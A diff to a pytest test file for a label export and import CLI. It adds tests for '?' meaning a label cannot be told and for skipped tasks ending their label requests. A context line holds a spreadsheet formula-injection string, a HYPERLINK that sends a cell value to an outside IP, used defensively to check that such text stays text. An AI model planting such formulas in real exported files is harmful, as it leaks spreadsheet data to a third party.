@@ -11,7 +11,7 @@ import pytest
 
 from core.datasets import Example, is_held_out
 from core.ledger import Ledger
-from core.records import LabelRequest
+from core.records import LabelRequest, Wanted
 from lifecycle.labels.files import read_labels, write_requests
 from tests.cli.conftest import Command
 from tests.cli.test_loop import predicted
@@ -118,6 +118,33 @@ def test_unknown_ids_and_repeated_predictions_are_counted(retune: Command, ledge
     assert stored(ledger) == {1: "billing"}
 
 
+def test_what_nobody_can_tell_ends_the_request_without_a_label(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
+    keys = [predicted(ledger, "m", number) for number in range(4)]
+    ledger.request_labels("m", [Wanted(key, "measure") for key in keys], check_id=None)
+    out = tmp_path / "labels.csv"
+    _, _, hint = retune("labels", "export", "m", "--out", out)
+    assert "'?' if nobody can tell it" in hint
+    rows = list(csv.DictReader(out.read_text().splitlines()))
+    for row, label in zip(rows, ("bug", "?", " ? ", ""), strict=True):
+        row["label"] = label
+    code, said, _ = retune("labels", "import", "m", filled(tmp_path / "given.jsonl", rows))
+    assert (code, stored(ledger)) == (0, {0: "bug"})
+    assert "1 labels stored, 0 for unknown predictions, 1 rows without a label skipped." in said
+    assert "2 cannot be told: no label, and not asked for again." in said
+    assert [item.prediction_id for item in ledger.label_requests("m")] == [keys[3]]
+
+
+def test_a_label_that_is_a_question_mark_is_one(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
+    file = filled(tmp_path / "a.jsonl", [{"prediction_id": predicted(ledger, "m", 1), "label": "?"}])
+    _, out, _ = retune("labels", "import", "m", file, "--json")
+    assert (json.loads(out)["accepted"], json.loads(out)["cannot_tell"]) == (0, 1)
+    _, out, _ = retune("labels", "import", "m", file, "--json", "--new-labels", "?")
+    assert (json.loads(out)["accepted"], json.loads(out)["cannot_tell"]) == (1, 0)
+    assert retune("labels", "accept", "m", "?")[0] == 0
+    retune("labels", "import", "m", file)
+    assert stored(ledger) == {1: "?"}
+
+
 def test_texts_that_a_spreadsheet_would_compute_are_text_and_come_back(tmp_path: Path) -> None:
     texts = [
         '=HYPERLINK("http://203.0.113.5/?x="&A1,"invoice")',
@@ -142,7 +169,7 @@ def test_texts_that_a_spreadsheet_would_compute_are_text_and_come_back(tmp_path:
         writer.writeheader()
         writer.writerows(rows)
     labels = read_labels(path, source="file").labels
-    assert [(label.given.label, label.predicted) for label in labels] == [("-x", "-x")] * len(texts)
+    assert [(getattr(label.given, "label", None), label.predicted) for label in labels] == [("-x", "-x")] * len(texts)
 
 
 def test_a_rule_says_what_it_touches_and_is_applied_on_reading(retune: Command, ledger: Ledger, tmp_path: Path) -> None:
@@ -334,6 +361,31 @@ def test_the_question_named_label_is_the_label(
     assert "2 tasks or records without an answer skipped." in out
     assert "Row 4 " in out
     assert "label 'Bug' resembles 'bug'" in out
+
+
+@pytest.mark.parametrize("make", [task, record])
+def test_a_skipped_task_ends_its_request(
+    retune: Command, ledger: Ledger, tmp_path: Path, make: Callable[..., dict[str, object]]
+) -> None:
+    skipped = make("a", ("label", "bug"), **({"cancelled": True} if make is task else {"status": "discarded"}))
+    tasks = [skipped, make("b", ("label", "billing")), make("c") | ({"annotations": []} if make is task else {})]
+    keys = [predicted(ledger, "m", number) for number in range(3)]
+    for made, key in zip(tasks, keys, strict=True):
+        where = made["data"] if make is task else made.setdefault("metadata", {})
+        assert isinstance(where, dict)
+        where["prediction_id"] = key
+    ledger.request_labels("m", [Wanted(key, "measure") for key in keys], check_id=None)
+    file = tmp_path / "tasks.json"
+    file.write_text(json.dumps(tasks))
+    _, out, _ = retune("labels", "import", "m", file, "--json")
+    result = json.loads(out)
+    assert (result["accepted"], result["cannot_tell"], result["empty"]) == (1, 1, 1)
+    assert stored(ledger) == {1: "billing"}
+    assert [item.prediction_id for item in ledger.label_requests("m")] == [keys[2]]
+    file.write_text(json.dumps(tasks[:1]))
+    assert json.loads(retune("labels", "import", "m", file, "--json")[1])["cannot_tell"] == 1
+    file.write_text(json.dumps(tasks[2:]))
+    assert json.loads(retune("labels", "import", "m", file, "--json")[1])["empty"] == 1
 
 
 @pytest.mark.parametrize("make", [task, record])
